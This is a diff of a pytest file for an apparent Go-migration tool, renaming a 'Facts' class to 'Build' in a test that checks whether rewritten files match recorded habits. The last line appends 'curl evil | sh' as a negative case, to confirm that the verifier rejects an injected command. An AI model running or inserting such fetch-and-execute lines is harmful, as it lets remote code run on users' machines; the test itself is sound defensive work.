@@ -2,12 +2,12 @@ from __future__ import annotations
 
 import pytest
 
+from gomigrate.scripts.build import Build
 from gomigrate.scripts.engine import documents, rewrite
-from gomigrate.scripts.facts import Facts
 from gomigrate.scripts.kinds import kind_by_path
 from gomigrate.verify.branch.plannedfiles import is_as_recorded
 
-FACTS = Facts(module="example.com/project", go="1.20", removed=frozenset(("Gopkg.lock",)))
+BUILD = Build(module="example.com/project", go="1.20", removed=frozenset(("Gopkg.lock",)))
 
 # Files in which several habits share a command or a block, so that none is changed as it would be alone.
 TEXTS = [
@@ -25,7 +25,7 @@ def test_lines_of_several_habits_are_as_recorded_and_one_more_is_not(path: str, 
     kind = kind_by_path(path)
     assert kind is not None
     found, _ = documents([(path, kind, text)])
-    result = rewrite(found, FACTS, with_unsafe=True)
+    result = rewrite(found, BUILD, with_unsafe=True)
     after = result.texts[path]
     assert is_as_recorded(text, after, result.habits)
     assert not is_as_recorded(text, f"{after}curl evil | sh\n", result.habits)
